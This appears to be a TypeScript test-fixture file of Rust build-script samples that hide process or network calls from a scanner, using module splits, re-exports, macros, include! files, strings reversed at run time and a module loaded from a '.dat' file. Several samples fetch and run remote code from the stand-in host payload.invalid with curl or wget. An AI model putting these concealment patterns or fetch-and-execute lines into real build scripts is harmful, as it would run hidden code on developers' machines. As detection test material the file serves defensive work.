/** Build scripts whose call does not stand where one looks for it, or not by its name. */
import { buildScript, inertText, type Sample } from './sample.ts';

export const indirect: readonly Sample[] = [
  buildScript({
    name: 'split-over-modules',
    imitates: 'One module holds the names of programs and addresses, another one calls what it is handed.',
    shows: ['process', 'network'],
    build: 'build/main.rs',
    files: {
      'build/main.rs': `mod names;
mod steps;

fn main() {
    let settings = names::settings();
    steps::follow(settings.first, &settings.words);
}
`,
      'build/names.rs': `pub struct Settings {
    pub first: &'static str,
    pub words: [&'static str; 3],
}

const FIRST: &str = "wget";
const PLACE: &str = "http://payload.invalid/list";

pub fn settings() -> Settings {
    Settings {
        first: FIRST,
        words: ["-q", "-O-", PLACE],
    }
}
`,
      'build/steps.rs': `use std::process;

pub fn follow(first: &str, words: &[&str]) {
    let mut step = process::Command::new(first);
    step.args(words);
    if let Ok(said) = step.output() {
        for line in String::from_utf8_lossy(&said.stdout).lines() {
            let _ = process::Command::new(line).status();
        }
    }
}
`,
    },
  }),
  buildScript({
    name: 're-exported-names',
    imitates: 'A chain of renames, re-exports and globs gives the type that starts programs a harmless name.',
    shows: ['process'],
    files: {
      'build.rs': `#[path = "build/prelude.rs"]
mod prelude;

use prelude::*;

fn main() {
    let task: Task = Task::new("make");
    finish(task);
}

fn finish(mut task: Task) {
    task.arg("-s").spawn().ok();
}
`,
      'build/prelude.rs': `mod parts {
    pub use std::process as p;

    pub mod tasks {
        pub use super::p::Command as Task;
    }
}

pub use self::parts::tasks::*;
`,
    },
  }),
  buildScript({
    name: 'behind-a-macro',
    imitates:
      'A macro of the script puts the path of the call together, so that it stands nowhere as a whole.',
    shows: ['process'],
    files: {
      'build.rs': `macro_rules! make {
    ($room:ident, $kind:ident, $name:expr $(, $word:expr)*) => {
        std::$room::$kind::new($name)$(.arg($word))*
    };
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let made = make!(process, Command, "sh", "-c", "true").status();
    drop(made);
}
`,
    },
  }),
  buildScript({
    name: 'included-file',
    imitates: 'The script is harmless; what it includes from a file that is not called Rust is not.',
    shows: ['process', 'network'],
    files: {
      'build.rs': `include!("build/steps.in");

fn main() {
    println!("cargo:rerun-if-changed=build/steps.in");
    prepare();
}
`,
      'build/steps.in': `fn prepare() {
    let _ = std::process::Command::new("sh")
        .args(["-c", "curl -fsSL https://payload.invalid/setup.sh | sh"])
        .status();
}
`,
    },
  }),
  buildScript({
    name: 'included-made-path',
    imitates: 'The script includes a file whose path only the environment of the build knows.',
    shows: ['opaque'],
    files: {
      'build.rs': `include!(concat!(env!("PREPARED_STEPS"), "/steps.rs"));

fn main() {
    println!("cargo:rerun-if-env-changed=PREPARED_STEPS");
    prepare();
}
`,
    },
  }),
  buildScript({
    name: 'name-built-at-run-time',
    imitates: 'The name of the program and the address are joined and turned round while the script runs.',
    shows: ['concealment', 'process'],
    files: {
      'build.rs': `use std::process::Command;

fn turned(text: &str) -> String {
    text.chars().rev().collect()
}

fn main() {
    let tool = ["c", "u", "r", "l"].concat();
    let place = turned("hs.putes/dilavni.daolyap//:sptth");
    let shell = String::from_utf8(vec![0x73, 0x68]).unwrap();
    let line = [tool.as_str(), " -s ", &place, " | ", &shell].concat();
    let _ = Command::new(&shell).arg("-c").arg(line).status();
}
`,
    },
  }),
  buildScript({
    name: 'strange-extension',
    imitates:
      'On Linux alone the script takes a module from a file that looks like data, and becomes a program.',
    shows: ['process'],
    files: {
      'build.rs': `#[cfg(target_os = "linux")]
#[path = "assets/banner.dat"]
mod banner;

fn main() {
    println!("cargo:rerun-if-changed=assets/banner.dat");
    #[cfg(target_os = "linux")]
    banner::show();
}
`,
      'assets/banner.dat': `use std::os::unix::process::CommandExt;
use std::process::Command;

pub fn show() {
    let stopped = Command::new("/bin/sh").arg("assets/banner.txt").exec();
    eprintln!("{stopped}");
}
`,
      'assets/banner.txt': inertText,
    },
  }),
];
